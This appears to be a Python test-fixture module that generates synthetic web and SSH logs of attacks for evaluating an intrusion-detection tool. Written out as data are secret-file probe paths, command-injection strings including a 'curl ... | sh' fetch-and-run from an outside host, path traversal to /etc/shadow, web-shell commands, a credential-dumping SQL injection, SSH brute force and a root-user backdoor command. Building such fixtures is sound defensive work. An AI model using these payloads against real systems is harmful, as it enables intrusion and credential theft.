"""From the first knock to a foot in the door: scans, uploads, web shells, exploits."""

from itertools import zip_longest

from core.taxonomy import AttackType, Outcome
from eval.stories.agents import BROWSERS, NAMED
from eval.stories.people import OFFICE, ordinary, wait
from eval.stories.ssh import Sshd
from eval.stories.stage import UNJUDGED, Client, Stage

SCAN, PROBE, SHELL = AttackType.VULNERABILITY_SCAN, AttackType.SENSITIVE_FILE_PROBE, AttackType.WEBSHELL_ACCESS
SECRETS = (
    "/.env", "/.git/config", "/wp-config.php.bak", "/backup.zip", "/db.sql.gz", "/.aws/credentials", "/.ssh/id_rsa",
    "/.svn/entries", "/config.php~", "/.htpasswd",
)  # fmt: skip
GUESSES = (
    "/phpmyadmin/index.php", "/manager/html", "/solr/admin/cores", "/actuator/gateway/routes", "/cgi-bin/luci",
    "/owa/auth/logon.aspx", "/boaform/admin/formLogin", "/telescope/requests", "/remote/login", "/hudson/script",
    "/druid/index.html", "/nacos/v1/auth/users", "/geoserver/web/", "/struts2-showcase/index.action", "/HNAP1/",
    "/autodiscover/autodiscover.json",
)  # fmt: skip


LISTED = tuple(path for pair in zip_longest(GUESSES, SECRETS) for path in pair if path)
"""The list of the tool: a secret after every guess while there are some, always in the same order."""


def scan(stage: Stage, ip: str, minute: float, agent: str, found: dict[str, int] | None = None) -> Client:
    """One pass over the list, two to five seconds from path to path; `found` are sizes of what exists."""
    whole = stage.incident(f"scan-{ip}", SCAN, PROBE)
    secrets = stage.incident(f"secrets-{ip}", PROBE, outcome=Outcome.SUCCEEDED if found else None)
    client, exists, when = Client(stage, ip, agent, (whole,)), found or {}, stage.at(minute)
    for path in LISTED:
        belongs = (whole, secrets) if path in SECRETS else (whole,)
        client.ask(when, f"GET {path}", 200 if path in exists else 404, exists.get(path), incidents=belongs)
        when += wait(stage, 2, 5)
    return client


def scan_then_exploit(stage: Stage) -> None:
    """Three addresses run the same list with the same tool; the third finds a file and a hole and uses both."""
    ordinary(stage, 120, 18)
    tool = "Mozilla/5.0 (compatible; gleaner/3.1)"
    scan(stage, "203.0.113.51", 22, tool)
    scan(stage, "203.0.113.52", 26, tool)
    client = scan(stage, "203.0.113.53", 31, tool, {"/.env": 1_204})
    command = stage.incident("command", AttackType.COMMAND_INJECTION)
    traversal = stage.incident("traversal", AttackType.PATH_TRAVERSAL, outcome=Outcome.SUCCEEDED)
    steps = (
        ("GET /api/v1/diagnose?host=127.0.0.1%3Bid", 200, 118, command),
        ("GET /api/v1/diagnose?host=127.0.0.1%7Cuname%20-a", 200, 161, command),
        ("GET /api/v1/diagnose?host=%24%28cat%20%2Fetc%2Fpasswd%29", 200, 1_902, command),
        ("GET /api/v1/diagnose?host=127.0.0.1%26%26curl%20-s%20http%3A%2F%2F203.0.113.60%2Fk%7Csh", 200, 64, command),
        ("GET /media/..%2f..%2f..%2f..%2fetc%2fpasswd", 200, 1_843, traversal),
        ("GET /media/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow", 403, None, traversal),
    )
    when = stage.at(40)
    for request, status, size, belongs in steps:
        when += wait(stage, 15, 60)
        client.ask(when, request, status, size, incidents=(belongs,))


def upload_then_shell(stage: Stage) -> None:
    """A script is stored where only pictures belong, and answers commands; another address is refused the same."""
    ordinary(stage, 90, 16)
    editor = Client(stage, OFFICE, BROWSERS[4])
    editor.ask(stage.at(10), "POST /admin/media/upload", 201, 240)
    editor.ask(stage.at(10, 3), "GET /uploads/2026/11/teapot-iron.jpg", 200, 48_211)
    upload = stage.incident("upload", AttackType.MALICIOUS_UPLOAD, outcome=Outcome.SUCCEEDED)
    shell = stage.incident("shell", SHELL, AttackType.COMMAND_INJECTION, outcome=Outcome.SUCCEEDED)
    client = Client(stage, "203.0.113.61", BROWSERS[3], (upload,))
    client.ask(stage.at(33), "PUT /uploads/2026/11/thumbs.php", 201, 0)
    commands = ("id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/srv/www", "whoami", "netstat%20-an")
    when = stage.at(34)
    for number, command in enumerate(commands):
        when += wait(stage, 9, 40)
        size = 51 + 613 * (number % 4)
        client.ask(when, f"GET /uploads/2026/11/thumbs.php?cmd={command}", 200, size, incidents=(shell,))
    refused = Client(stage, "203.0.113.62", BROWSERS[1], (upload,))
    for number, name in enumerate(("wso.php", "x.phtml", "logo.php.jpg", "a.jsp")):
        refused.ask(stage.at(52, number * 4), f"PUT /uploads/2026/11/{name}", 405)


def three_logs(stage: Stage) -> None:
    """One intruder in three logs: a scan and SQL injection on the site, then guesses over SSH until one fits."""
    ordinary(stage, 120, 16)
    client = scan(stage, "203.0.113.45", 18, BROWSERS[1])
    injection = stage.incident("injection", AttackType.SQL_INJECTION)
    tests = (
        ("1%27", 500), ("1%27%20AND%20%271%27%3D%271", 200), ("1%27%20AND%20%271%27%3D%272", 404),
        ("1%27%20ORDER%20BY%206--%20-", 200), ("1%27%20ORDER%20BY%207--%20-", 500),
        ("0%27%20UNION%20SELECT%201,2,version(),4,5,6--%20-", 200),
        ("0%27%20UNION%20SELECT%201,2,group_concat(login,0x3a,pass),4,5,6%20FROM%20staff--%20-", 200),
    )  # fmt: skip
    when = stage.at(30)
    for value, status in tests:
        when += wait(stage, 8, 30)
        client.ask(when, f"GET /teas/by-id?id={value}", status, incidents=(injection,))
    ssh = Sshd(stage)
    ssh.ordinary(120)
    guesses = stage.incident("guesses", AttackType.BRUTE_FORCE, outcome=Outcome.SUCCEEDED)
    login = stage.incident("login", AttackType.LOGIN_AFTER_FAILURES, outcome=Outcome.SUCCEEDED)
    when = stage.at(50)
    for _ in range(22):
        when += wait(stage, 4, 12)
        ssh.fail(when, "webmaster", "203.0.113.45", (guesses,))
    ssh.accept(when + wait(stage, 5, 12), "webmaster", "203.0.113.45", (login,))
    for number, command in enumerate(("/usr/bin/cat /etc/shadow", "/usr/sbin/useradd -o -u 0 svc")):
        ssh.sudo(when + wait(stage, 60 + number * 60, 90 + number * 60), "webmaster", command, (UNJUDGED,))


def bots(stage: Stage) -> None:
    """Two that only call themselves Googlebot, and a scraper without a name; real crawlers are beside them."""
    ordinary(stage, 120, 16)
    bad = stage.incident("impostors", AttackType.BAD_BOT)
    for ip, minute in (("203.0.113.91", 20), ("203.0.113.92", 45)):
        client = Client(stage, ip, NAMED["google"], (bad,))
        for number in range(18):
            client.ask(stage.at(minute, number * 5), f"GET /teas?page={number + 1}")
    taken = stage.incident("scraper", AttackType.BAD_BOT, AttackType.DOS, SCAN)
    scraper = Client(stage, "203.0.113.93", NAMED["script"], (taken,))
    for number in range(200):
        scraper.ask(stage.at(60, number // 4), f"GET /teas/{1_000 + number}", 200 if number % 3 else 404)
